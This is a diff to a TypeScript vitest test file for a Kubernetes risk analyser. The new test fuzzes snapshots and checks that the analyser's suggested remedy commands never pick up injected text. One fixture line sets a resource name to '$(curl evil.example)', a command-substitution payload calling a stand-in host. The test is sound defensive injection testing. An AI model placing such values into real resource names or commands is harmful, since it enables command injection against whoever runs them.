@@ -1,5 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import type { KubernetesObject } from '#lib/kubernetes/object.ts';
+import { CASES } from '../testing/cases.ts';
+import { mutated, random } from '../testing/mutations.ts';
 import { deployment, snapshotOf, stamp } from '../testing/snapshots.ts';
 import { RISKS, risksOf } from './index.ts';
 import { POD_MAKERS } from './templates.ts';
@@ -325,6 +327,20 @@ it('malformed objects do no harm', () => {
       const broken = { ...object(kind, 'x'), spec: value, status: value, webhooks: value } as KubernetesObject;
       expect(() => risksOf(snapshotOf([broken], { read: { kinds } }))).not.toThrow();
     }
+});
+
+it('no snapshot makes it throw, and a hostile name enters no command', () => {
+  for (const [seed, { snapshot }] of Object.values(CASES).entries()) {
+    const next = random(seed);
+    expect(() => risksOf(mutated(snapshot, next) as typeof snapshot)).not.toThrow();
+  }
+  const hostile = web({ container: { envFrom: [{ secretRef: { name: 'x' } }] } }).map((one) => ({
+    ...one,
+    metadata: { ...(one.metadata as object), name: '$(curl evil.example)' },
+  }));
+  const { risks: found } = risksOf(snapshotOf(hostile as KubernetesObject[], { read: { kinds: ['Secret'] } }));
+  expect(found.length).toBeGreaterThan(0);
+  expect(found.map(({ remedy }) => remedy.command ?? '').join('\n')).not.toContain('curl');
 });
 
 it('every code is unique, and has a title', () => {
